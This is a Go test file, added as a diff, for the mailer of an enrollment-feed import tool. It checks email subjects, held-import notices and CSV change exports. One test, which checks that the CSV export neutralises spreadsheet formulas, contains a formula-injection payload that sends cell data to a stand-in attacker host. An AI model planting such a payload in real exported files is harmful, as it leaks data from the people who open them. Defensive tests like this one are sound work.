@@ -1,0 +1,275 @@
+package mailer
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/imsfeed/imsfeed/change"
+	"github.com/imsfeed/imsfeed/record"
+	"github.com/imsfeed/imsfeed/runs"
+	"github.com/imsfeed/imsfeed/safety"
+)
+
+var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")
+
+func TestRenderGolden(t *testing.T) {
+	t.Parallel()
+	for name, msg := range kinds() {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r, err := Render(msg)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := "Subject: " + r.Subject + "\n\n" + r.Text
+			golden := filepath.Join("testdata", name+".golden")
+			if *update {
+				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(golden)
+			if err != nil {
+				t.Fatalf("%v (run go test ./mailer -update to create it)", err)
+			}
+			if got != string(want) {
+				t.Errorf("text of the %s mail differs from %s (go test ./mailer -update to accept):\n%s", name, golden, got)
+			}
+		})
+	}
+}
+
+func TestSubjects(t *testing.T) {
+	t.Parallel()
+	k := kinds()
+	want := map[string]string{
+		"completed":  "[imsfeed] northside: import completed (+3 ~2 -1 persons, +1 ~0 -1 groups, +4 ~0 -3 memberships)",
+		"held":       "[imsfeed] northside: import HELD — approval needed (persons deletes 25.0% > 10%)",
+		"failed":     "[imsfeed] northside: import FAILED (line 3:9: XML syntax error: element <person> closed by </persn>)",
+		"skipped":    "[imsfeed] northside: import skipped (unchanged file: same SHA-256 as run 16)",
+		"approved":   "[imsfeed] northside: held import approved and applied (+0 ~0 -15 persons)",
+		"rejected":   "[imsfeed] northside: held import rejected (run 17)",
+		"planned":    "[imsfeed] northside: dry run — would apply (+3 ~2 -1 persons, +1 ~0 -1 groups, +4 ~0 -3 memberships)",
+		"superseded": "[imsfeed] northside: held import superseded (run 17)",
+	}
+	seen := map[string]string{}
+	for name, w := range want {
+		r, err := Render(k[name])
+		if err != nil {
+			t.Fatal(err)
+		}
+		if r.Subject != w {
+			t.Errorf("%s subject:\n got %s\nwant %s", name, r.Subject, w)
+		}
+		if other, dup := seen[r.Subject]; dup {
+			t.Errorf("%s and %s mails have the same subject", name, other)
+		}
+		seen[r.Subject] = name
+	}
+}
+
+func TestHeldSubjectNamesEveryKindOfLimit(t *testing.T) {
+	t.Parallel()
+	run := baseRun(runs.Held)
+	run.Verdict.Passed = false
+	run.Verdict.Tripped = []safety.Trip{
+		{Type: "memberships", Op: safety.Deletes, Count: 180, Base: 5000, Percent: 3.6, MaxPercent: ptr(10.0), MaxCount: ptr(150)},
+		{Type: "persons", Op: safety.Inserts, Count: 600, Base: 0},
+		{Type: "groups", Op: safety.Updates, Count: 30, Base: 40, Percent: 75, MaxPercent: ptr(50.0)},
+	}
+	r, err := Render(Message{Run: run, Tenant: northside})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "(memberships deletes 180 > 150 and 2 more limits)"; !strings.HasSuffix(r.Subject, want) {
+		t.Errorf("subject %q, want it to end %q", r.Subject, want)
+	}
+	for _, want := range []string{
+		"memberships deletes: 180 of 5000 (3.6%); limit max 10%, max 150",
+		"persons inserts: 600 of 0 (initial load)",
+		"groups updates: 30 of 40 (75.0%); limit max 50%",
+		"imsfeed approve 17 --by NAME --reason TEXT", // the default when the lead gives none
+		"imsfeed reject 17 --by NAME --reason TEXT",
+	} {
+		if !strings.Contains(r.Text, want) || !strings.Contains(r.HTML, want) {
+			t.Errorf("text or HTML lacks %q", want)
+		}
+	}
+}
+
+// The CSV rows are the plan's changes: per type and op they add up to the run's counts.
+func TestCSVMatchesPlan(t *testing.T) {
+	t.Parallel()
+	msg := kinds()["completed"]
+	r, err := Render(msg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.CSVName != "changes-northside-run17.csv" {
+		t.Errorf("CSV name %q", r.CSVName)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(r.CSV)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	checkCSV(t, rows, msg.Run.Counts)
+}
+
+func checkCSV(t *testing.T, rows [][]string, want change.Counts) {
+	t.Helper()
+	if len(rows) == 0 || strings.Join(rows[0], ",") != "type,op,key,name,group,member,role" {
+		t.Fatalf("CSV header: %q", rows)
+	}
+	var got change.Counts
+	for _, row := range rows[1:] {
+		var tc *change.TypeCounts
+		switch row[0] {
+		case "person":
+			tc = &got.Persons
+		case "group":
+			tc = &got.Groups
+		case "membership":
+			tc = &got.Memberships
+			if row[4] == "" || row[5] == "" || row[6] == "" {
+				t.Errorf("membership row without group, member or role: %q", row)
+			}
+		default:
+			t.Fatalf("CSV row of unknown type: %q", row)
+		}
+		switch row[1] {
+		case "insert":
+			tc.Inserted++
+		case "update":
+			tc.Updated++
+		case "delete":
+			tc.Deleted++
+		case "restore":
+			tc.Restored++
+		case "archive", "manual":
+			tc.Archived++
+		default:
+			t.Errorf("CSV row with unknown op: %q", row)
+		}
+	}
+	for _, c := range []*change.Counts{&got, &want} {
+		for _, tc := range []*change.TypeCounts{&c.Persons, &c.Groups, &c.Memberships} {
+			tc.Before, tc.After = 0, 0
+		}
+	}
+	if got != want {
+		t.Errorf("CSV rows add up to %+v, run says %+v", got, want)
+	}
+}
+
+func TestNoCSVWithoutChanges(t *testing.T) {
+	t.Parallel()
+	k := kinds()
+	for _, msg := range []Message{k["failed"], {Run: k["skipped"].Run, Plan: &change.Plan{}, Tenant: northside}} {
+		r, err := Render(msg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if r.CSV != nil || r.CSVName != "" || strings.Contains(r.Text, ".csv") {
+			t.Errorf("%s mail has a CSV (%q) though nothing changed", msg.Run.Status, r.CSVName)
+		}
+	}
+}
+
+// A name that starts like a spreadsheet formula must not run when staff open the CSV.
+func TestCSVDefusesFormulas(t *testing.T) {
+	t.Parallel()
+	p := smallPlan()
+	p.Persons[0].Person.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	b, err := renderCSV(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rows[1][3]; !strings.HasPrefix(got, "'=") {
+		t.Errorf("formula cell written as %q", got)
+	}
+}
+
+func TestLongListsAreCut(t *testing.T) {
+	t.Parallel()
+	msg := kinds()["held"] // 23 warnings
+	r, err := Render(msg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := strings.Count(r.Text, "membership member unknown")
+	if n != maxListed {
+		t.Errorf("text lists %d warnings, want the first %d", n, maxListed)
+	}
+	for _, want := range []string{"Warnings (23):", "... and 3 more (imsfeed show 17 lists them all)"} {
+		if !strings.Contains(r.Text, want) {
+			t.Errorf("text lacks %q", want)
+		}
+	}
+	if !strings.Contains(r.HTML, "and 3 more") {
+		t.Error("HTML does not say how many warnings were left out")
+	}
+}
+
+func TestRenderNeedsRun(t *testing.T) {
+	t.Parallel()
+	if _, err := Render(Message{}); err == nil {
+		t.Error("Render of a message without a run succeeded")
+	}
+}
+
+func ExampleRender() {
+	fin := t0.Add(4 * 1e9)
+	r, _ := Render(Message{
+		Run:    &runs.Run{ID: 3, Tenant: "north", Status: runs.Skipped, Reason: "unchanged file", StartedAt: t0, FinishedAt: &fin},
+		Tenant: Tenant{ID: "north"},
+	})
+	fmt.Println(r.Subject)
+	// Output: [imsfeed] north: import skipped (unchanged file)
+}
+
+func TestHoldRemovalsSaysWhatWasApplied(t *testing.T) {
+	t.Parallel()
+	msg := kinds()["held"]
+	msg.Run.Verdict.OnTrip = safety.HoldRemovals
+	r, err := Render(msg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "inserts and updates were applied; deletes and archivals wait for approval"
+	if !strings.Contains(r.Text, want) || !strings.Contains(r.HTML, want) {
+		t.Errorf("hold-removals mail does not say %q:\n%s", want, r.Text)
+	}
+}
+
+func BenchmarkRenderLargePlan(b *testing.B) {
+	p := &change.Plan{}
+	for i := 0; i < 50000; i++ {
+		p.Persons = append(p.Persons, change.Person{Op: change.Insert, Person: record.Person{Key: fmt.Sprintf("P%06d", i), Name: fmt.Sprintf("Given%d Family%d", i, i)}})
+		p.Memberships = append(p.Memberships, change.Membership{Op: change.Insert, Membership: record.Membership{MembershipKey: record.MembershipKey{Group: "G1", Member: fmt.Sprintf("P%06d", i), Role: "01"}}})
+	}
+	p.Counts = change.Tally(p, [3]int{})
+	run := baseRun(runs.Completed)
+	run.Counts = p.Counts
+	msg := Message{Run: run, Plan: p, Tenant: northside}
+	m := New(nil, b.TempDir(), nil)
+	b.ResetTimer()
+	for b.Loop() {
+		res, err := m.Send(context.Background(), msg)
+		if err != nil {
+			b.Fatal(err)
+		}
+		fi, _ := os.Stat(res.Path)
+		b.ReportMetric(float64(fi.Size())/1e6, "MB/mail")
+	}
+}
